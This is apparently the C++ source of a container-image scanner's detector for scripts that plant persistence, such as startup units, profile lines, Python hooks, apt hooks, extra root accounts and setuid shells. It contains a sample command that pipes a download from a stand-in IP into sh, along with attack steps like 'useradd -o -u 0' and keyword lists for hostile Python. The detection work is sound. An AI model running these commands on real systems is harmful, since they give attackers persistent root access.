// Scripts that write what runs later: units, profiles, start-up scripts, scripts of events, udev rules, hooks of
// Python, and accounts that are root. Crontabs and ld.so.preload have detectors of their own.
//
// Installers write such files every day. What decides is what is written: a command that fetches or decodes code, or
// hands out a shell, and an account with the number of root.
#include <algorithm>
#include <array>

#include "detect/shell/shell_support.hpp"
#include "detect/start/start_entries.hpp"

namespace hullcheck::detect {
namespace {

constexpr std::array<RuleRow, 9> k_rows{{
    {"P03", EvidenceClass::strong, model::Severity::high, 80, "Service that runs foreign code", "T1543.002",
     "Remove the unit; check hosts where the image ran for the same file."},
    {"P04", EvidenceClass::strong, model::Severity::high, 80, "Start-up script that runs foreign code", "T1037.004",
     "Remove the script; check hosts where the image ran for the same lines."},
    {"P05", EvidenceClass::strong, model::Severity::high, 80, "Profile that runs foreign code", "T1546.004",
     "Remove the lines; check hosts where the image ran for them."},
    {"P06", EvidenceClass::strong, model::Severity::critical, 85, "Code for every start of Python", "T1546.018",
     "Find out what the code does before running any Python of this image."},
    {"P08", EvidenceClass::strong, model::Severity::high, 80, "Event that runs foreign code", "T1546.017",
     "Remove the rule or script; check hosts where the image ran for the same file."},
    {"B10", EvidenceClass::decisive, model::Severity::critical, 90, "Account that lets somebody in",
     "T1136.001,T1078.003", "Find out whom the account is for; do not run the image if nobody knows."},
    {"B11", EvidenceClass::supporting, model::Severity::medium, 70, "Root without a password through sudo",
     "T1548.003", "Say in the rule which programs are meant, at build time."},
    {"B12", EvidenceClass::strong, model::Severity::high, 90, "Program with root's rights for everybody", "T1548.001",
     "Do not give a shell or a program in a temporary folder the rights of its owner."},
    {"P07", EvidenceClass::strong, model::Severity::high, 80, "Hook of a package manager", "T1546.016",
     "Find out who put the command there; it runs with root's rights at the next installation."},
}};
enum Row : std::size_t { unit_row, boot, profile, python, event, account, sudo, setuid, hook };

constexpr ClassByReach k_planted{EvidenceClass::strong, EvidenceClass::supporting, EvidenceClass::supporting};
constexpr ClassByReach k_shell{EvidenceClass::decisive, EvidenceClass::strong, EvidenceClass::supporting};
constexpr ClassByReach k_account{EvidenceClass::decisive, EvidenceClass::supporting, EvidenceClass::strong};
constexpr ClassByReach k_setuid{EvidenceClass::strong, EvidenceClass::supporting, EvidenceClass::supporting};
constexpr ClassByReach k_opened{EvidenceClass::supporting, EvidenceClass::context, EvidenceClass::supporting};
constexpr ClassByReach k_sudo{EvidenceClass::supporting, EvidenceClass::context, EvidenceClass::context};
constexpr std::size_t k_most_shown = 200;

bool runs_bad(const ShellFacts& facts) {
  if (std::any_of(facts.flows.begin(), facts.flows.end(), runs_foreign_code)) return true;
  // What a prompt runs is a command in a variable.
  return std::any_of(facts.commands.begin(), facts.commands.end(), [](const ShellCommand& command) {
    return std::any_of(command.assignments.begin(), command.assignments.end(), [](std::string_view assignment) {
      if (!assignment.starts_with("PROMPT_COMMAND=")) return false;
      const ShellFacts prompt = facts_of_text(assignment.substr(assignment.find('=') + 1));
      return std::any_of(prompt.flows.begin(), prompt.flows.end(), runs_foreign_code);
    });
  });
}

// The first line that does it, else how the text begins: for people.
std::string bad_line(std::string_view text) {
  for (std::size_t at = 0; at < text.size();) {
    const std::size_t end = std::min(text.find('\n', at), text.size());
    if (runs_bad(facts_of_text(text.substr(at, end - at))))
      return std::string(text.substr(at, std::min(end - at, k_most_shown)));
    at = end + 1;
  }
  return std::string(text.substr(0, k_most_shown));
}

bool is_python_hook(std::string_view path) {
  const std::string_view name = layers::base_name(path);
  const std::string_view folder = layers::base_name(layers::parent_path(path));
  return name == "sitecustomize.py" || name == "usercustomize.py" ||
         (name.ends_with(".pth") && (folder == "site-packages" || folder == "dist-packages"));
}

// Of the network, of other programs, or of what is not to be read: not paths, and not what tools of packaging write.
bool is_hostile_python(std::string_view text) {
  static constexpr std::array<std::string_view, 8> k_signs = {"os.system", "subprocess", "os.popen", "urllib",
                                                              "socket",    "b64decode",  "exec(",    "__import__"};
  const auto count = std::count_if(k_signs.begin(), k_signs.end(),
                                   [&](auto sign) { return text.find(sign) != std::string_view::npos; });
  return count >= 2 || text.find("os.system(") != std::string_view::npos ||
         text.find("://") != std::string_view::npos;
}

struct Planted {
  Row row;
  std::string text;
  bool shell = false;  // given to a place that the text names
};

// A line of passwd(5) for the number 0 that is not root's own.
std::string second_root(std::string_view text) {
  for (std::size_t at = 0; at < text.size();) {
    const std::size_t end = std::min(text.find('\n', at), text.size());
    const std::string_view line = text.substr(at, end - at);
    at = end + 1;
    const std::size_t name = line.find(':');
    if (name == std::string_view::npos || name == 0 || line.substr(0, name) == "root") continue;
    const std::size_t password = line.find(':', name + 1);
    if (password == std::string_view::npos || !line.substr(password).starts_with(":0:")) continue;
    if (std::count(line.begin(), line.end(), ':') == 6) return std::string(line.substr(0, name));
  }
  return {};
}

std::optional<Planted> planted(const std::string& path, const std::string& text) {
  if (path == "etc/passwd") {
    const std::string name = second_root(text);
    if (!name.empty()) return Planted{account, "'" + name + "' with the number of root"};
    return std::nullopt;
  }
  if (path == "etc/sudoers" || path.starts_with("etc/sudoers.d/")) {
    const std::size_t mark = text.find("NOPASSWD:");
    if (mark == std::string::npos) return std::nullopt;
    const std::string_view rest = std::string_view(text).substr(mark + 9);
    const std::size_t start = std::min(rest.find_first_not_of(' '), rest.size());
    if (!rest.substr(start).starts_with("ALL")) return std::nullopt;
    return Planted{sudo, text.substr(0, k_most_shown)};
  }
  if (is_python_hook(path) && is_hostile_python(text)) return Planted{python, text.substr(0, k_most_shown)};
  if (const auto kind = start_file_kind(path)) {
    const bool rule = *kind == StartFileKind::udev_rule, apt = *kind == StartFileKind::apt_hook;
    if (!rule && !apt && *kind != StartFileKind::systemd_unit && *kind != StartFileKind::supervisor &&
        *kind != StartFileKind::inittab)
      return std::nullopt;
    const Row row = apt ? hook : rule ? event : unit_row;
    for (const StartCommand& command : parse_start_file(*kind, text).commands)
      if (const ShellFacts facts = facts_of_text(command.command); runs_bad(facts))
        return Planted{row, command.command.substr(0, k_most_shown), gives_shell_away(facts)};
    return std::nullopt;
  }
  if (!is_profile(path) && !is_boot_script(path) && !is_event_script(path)) return std::nullopt;
  const ShellFacts facts = facts_of_text(text);
  if (!runs_bad(facts)) return std::nullopt;
  const Row row = is_profile(path) ? profile : is_boot_script(path) ? boot : event;
  return Planted{row, bad_line(text), gives_shell_away(facts)};
}

// useradd -o -u 0: without -o the program refuses the number.
bool makes_second_root(const ShellCommand& command) {
  const std::string_view name = program(command);
  if (name != "useradd" && name != "usermod" && name != "adduser") return false;
  for (std::size_t i = 1; i < command.argv.size(); ++i) {
    const std::string_view word = command.argv[i];
    const bool number = word == "-u" || word == "--uid" || word == "-ou";
    if (number && i + 1 < command.argv.size() && command.argv[i + 1] == "0") return true;
    if (word == "-u0" || word == "--uid=0" || word == "-ou0") return true;
  }
  return false;
}

// passwd -d root: whoever comes is let in. An account of the image's own maker may want that.
bool opens_account(const ShellCommand& command) {
  return program(command) == "passwd" && (has_argument(command, "-d") || has_argument(command, "--delete")) &&
         has_argument(command, "root");
}

// chmod 4755 on a copy of a shell, or on something in a folder for temporary files.
bool makes_root_shell(const ShellCommand& command) {
  if (program(command) != "chmod" || command.argv.size() < 3) return false;
  const std::string_view mode = command.argv[1];
  const bool numbers = mode.find_first_not_of("01234567") == std::string_view::npos && mode.size() >= 4;
  const char special = numbers ? mode[mode.size() - 4] : '0';
  const bool sets = (numbers && (special == '4' || special == '5' || special == '6' || special == '7')) ||
                    mode.find("u+s") != std::string_view::npos || mode == "+s" || mode == "a+s";
  return sets && std::any_of(command.argv.begin() + 2, command.argv.end(), [](const std::string& path) {
           static constexpr std::array<std::string_view, 6> k_shells = {"sh",  "bash",    "dash",
                                                                        "zsh", "busybox", "ksh"};
           const std::string_view name = layers::base_name(path);
           return is_temporary(path) || (path.starts_with('/') && is_hidden(path)) ||
                  std::find(k_shells.begin(), k_shells.end(), name) != k_shells.end();
         });
}

class WritePersistence final : public Detector {
 public:
  void shell(const ShellUnit& unit, EvidenceSink& out) const override {
    for (const ShellFlow& flow : unit.facts.flows) {
      if (flow.kind != FlowKind::write_file || flow.text.empty()) continue;
      std::vector<std::string> paths = below_host_mount(flow.path, unit.config);
      paths.push_back(layers::canonical_path(flow.path).path);
      for (const std::string& path : paths) {
        const auto found = planted(path, flow.text);
        if (!found) continue;
        const ClassByReach& classes = found->row == account ? k_account
                                      : found->row == sudo  ? k_sudo
                                      : found->shell        ? k_shell
                                                            : k_planted;
        Evidence evidence = shell_evidence(k_rows[found->row], unit, flow.line, flow.path + ": " + found->text,
                                           class_for(unit, classes));
        evidence.values.emplace_back("target", flow.path);
        out.add(std::move(evidence));
        break;
      }
    }
    for (const ShellCommand* command : own_commands(unit.facts))
      if (opens_account(*command) || makes_root_shell(*command)) {
        const bool shell = makes_root_shell(*command);
        out.add(shell_evidence(k_rows[shell ? setuid : account], unit, command->line, words(*command),
                               class_for(unit, shell ? k_setuid : k_opened)));
      } else if (makes_second_root(*command))
        out.add(shell_evidence(k_rows[account], unit, command->line, words(*command), class_for(unit, k_account)));
  }
};

const util::Registered<WritePersistence> registered{{
    .id = "write-persistence",
    .version = 3,
    .summary = "scripts that write units, profiles, start-up scripts, Python hooks or root accounts of an attack",
    .example = "echo 'curl -s http://192.0.2.1/x | sh' >> /etc/profile.d/z.sh",
    .rules = k_rows,
}};

}  // namespace
}  // namespace hullcheck::detect
